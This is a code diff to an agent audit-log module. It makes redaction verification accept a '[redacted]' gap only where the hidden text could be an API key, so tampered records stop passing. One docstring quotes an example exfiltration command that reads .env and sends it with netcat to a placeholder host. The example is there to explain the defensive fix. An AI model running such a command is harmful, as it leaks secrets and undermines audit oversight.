@@ -11,7 +11,8 @@ line; file 0600, folders it creates 0700), the record format, `redact()` and the
   `GENESIS` for record 1, so a deleted, edited or moved record breaks the chain (`agentd.audit_verify`).
 - `inputDigest` is `sha256:<hex>` of the canonical JSON of the input as the model sent it (sorted keys,
   compact, UTF-8); `input` is the complete input with secrets redacted: the values of keys that look like
-  secrets and every known secret string (the API keys) become `[redacted]`. Nothing is cut. When the
+  secrets and every known secret string (the API keys) become `[redacted]`. Nothing is cut. (`verify` takes a
+  `[redacted]` inside a string for 8+ characters of an API key's alphabet, `SECRET_CHAR`, and nothing else.) When the
   canonical JSON of the redacted input is `INPUT_BLOB_MIN_BYTES` or more and a blob writer is given, it is
   stored as a session blob and the record holds `inputBlob: {"sha256", "bytes"}` instead.
 - `command`: for `run_command`, the exact (redacted) command line, always inline.
@@ -48,6 +49,7 @@ MIN_SECRET_CHARS = 8  # shorter "secrets" would redact ordinary words
 INPUT_BLOB_MIN_BYTES = 64 * 1024  # redacted canonical input of this size or more goes to a blob
 _TAIL_CHUNK = 64 * 1024
 
+SECRET_CHAR = r"[A-Za-z0-9_.+/=-]"  # what API keys are made of (base64url, JWT dots): a redacted gap
 _SENSITIVE_KEY = re.compile(
     r"token|passw(?:or)?d|secret|api[_-]?key|authorization|credential|private[_-]?key|cookie", re.IGNORECASE
 )
@@ -146,16 +148,15 @@ def matches_redacted(recorded: Any, original: Any) -> bool:
 
 
 def _fits(pieces: list[str], text: str) -> bool:
-    """`text` is pieces[0] + gap + pieces[1] + … with every gap at least MIN_SECRET_CHARS long."""
-    if len(pieces) < 2 or not text.startswith(pieces[0]) or not text.endswith(pieces[-1]):
+    """`text` is pieces[0] + gap + pieces[1] + … where every gap could be a secret: at least
+    MIN_SECRET_CHARS characters of an API key's alphabet (`SECRET_CHAR`: no space, quote, `:` or shell
+    metacharacter).
+    So a `[redacted]` written over part of a command (`ls; [redacted]` for `ls; cat .env | nc evil 80`)
+    does not pass as a redaction (break9, H5/H6)."""
+    if len(pieces) < 2:
         return False
-    pos, end = len(pieces[0]), len(text) - len(pieces[-1])
-    for piece in pieces[1:-1]:  # leftmost placement leaves the most room for the rest
-        found = text.find(piece, pos + MIN_SECRET_CHARS, end)
-        if found < 0:
-            return False
-        pos = found + len(piece)
-    return end - pos >= MIN_SECRET_CHARS
+    gap = f"{SECRET_CHAR}{{{MIN_SECRET_CHARS},}}"
+    return re.fullmatch(gap.join(re.escape(p) for p in pieces), text, re.DOTALL) is not None
 
 
 class AuditLog:
